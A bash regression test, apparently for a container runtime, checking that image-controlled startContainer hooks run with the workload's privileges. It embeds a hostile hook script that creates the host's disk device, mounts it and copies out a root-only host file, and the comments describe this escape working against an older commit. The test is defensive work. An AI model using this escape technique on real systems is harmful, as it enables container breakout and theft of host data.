# Image-controlled startContainer hooks run with the container's privileges,
# not the runtime's.
# shellcheck shell=bash disable=SC2016 # $x in single quotes: jq's variables

# The attacker controls the image, and the config (an engine's, from the image's
# metadata or a CDI/OCI hook manager) names a startContainer hook inside the
# rootfs: /evil.sh runs in the container. It tries to read a root-only host file
# by creating the host's root block device and mounting it (needs CAP_MKNOD,
# CAP_SYS_ADMIN, and a device cgroup that lets it open the device), and records
# its credentials, capabilities, no_new_privs, seccomp mode, cgroup and pid
# namespace, which must be the workload's (runc runs these hooks in its init,
# after the user change, the capability drop, no_new_privs and seccomp).
# Reached without the defence: the host's filesystem, read (and writable) from
# inside the container, and a process of the runtime's full privileges in the
# host's cgroup. Seen to succeed against c3bb862 (the runtime forked the hook and
# only joined the container's namespaces): the hook made the disk's node on /ctl,
# mounted it and read the marker, with CapEff 000001fffeffffff against the
# workload's 0000000020000420, in the host's cgroup. Against the fix mknod and
# mount fail with EPERM and every field equals the workload's; runc 1.1.5 passes.
test_hooks_start_container_runs_as_the_container() {
	local dev marker=$PX_TMP/host-secret f
	dev=$(findmnt -no SOURCE -T "$PX_TMP")
	[ -b "$dev" ] || skip "$PX_TMP is not on a block device"
	echo "host-secret-$RANDOM$RANDOM" >"$marker"
	chmod 600 "$marker"
	ctl_bundle 'for f in status cgroup; do cat /proc/self/$f >/ctl/wl.$f; done; readlink /proc/self/ns/pid >/ctl/wl.pidns'
	cat >"$B/rootfs/evil.sh" <<'HOOK'
#!/bin/sh
# $1: a root-only host file, $2 $3: the major and minor of the host's disk
for f in status cgroup; do cat /proc/self/$f >/ctl/hook.$f; done
readlink /proc/self/ns/pid >/ctl/hook.pidns
mkdir -p /dev/m
mknod /ctl/disk0 b "$2" "$3" 2>/ctl/hook.mknod
mount -t ext4 /ctl/disk0 /dev/m 2>/ctl/hook.mount && cat "/dev/m$1" >/ctl/hook.stolen
umount /dev/m 2>/dev/null
exit 0
HOOK
	chmod 755 "$B/rootfs/evil.sh"
	set_config --arg m "$marker" --arg maj "$((0x$(stat -c %t "$dev")))" --arg min "$((0x$(stat -c %T "$dev")))" \
		--slurpfile sc "$TOP/tests/integration/seccomp-default.json" '
		.hooks.startContainer = [{path: "/evil.sh", args: ["evil.sh", $m, $maj, $min]}]
		| .process.noNewPrivileges = true
		| .linux.seccomp = $sc[0]
		| .linux.resources.devices = [{allow: false, access: "rwm"}]'
	must rt run -b "$B" "$PX_ID"
	[ -f "$PX_TMP/ctl/hook.status" ] || fail "the hook did not run"
	head "$PX_TMP"/ctl/hook.mknod "$PX_TMP"/ctl/hook.mount "$PX_TMP"/ctl/hook.stolen 2>&1
	assert_not_contains "$(cat "$PX_TMP/ctl/hook.stolen" 2>/dev/null)" "$(cat "$marker")" "what the hook read"
	for f in CapEff CapPrm CapBnd CapInh CapAmb Uid Gid NoNewPrivs Seccomp; do
		assert_eq "$(grep "^$f:" "$PX_TMP/ctl/hook.status")" "$(grep "^$f:" "$PX_TMP/ctl/wl.status")" \
			"the hook's $f (the workload's)"
	done
	assert_eq "$(grep ^Seccomp: "$PX_TMP/ctl/hook.status" | tr -d '[:space:]')" Seccomp:2 "the hook's seccomp mode"
	assert_eq "$(grep ^NoNewPrivs: "$PX_TMP/ctl/hook.status" | tr -d '[:space:]')" NoNewPrivs:1 "no_new_privs"
	assert_eq "$(cat "$PX_TMP/ctl/hook.cgroup")" "$(cat "$PX_TMP/ctl/wl.cgroup")" "the hook's cgroup"
	assert_eq "$(cat "$PX_TMP/ctl/hook.pidns")" "$(cat "$PX_TMP/ctl/wl.pidns")" "the hook's pid namespace"
	assert_ne "$(cat "$PX_TMP/ctl/hook.pidns")" "$(readlink /proc/self/ns/pid)" "the hook's pid namespace"
	assert_nothing_left
}
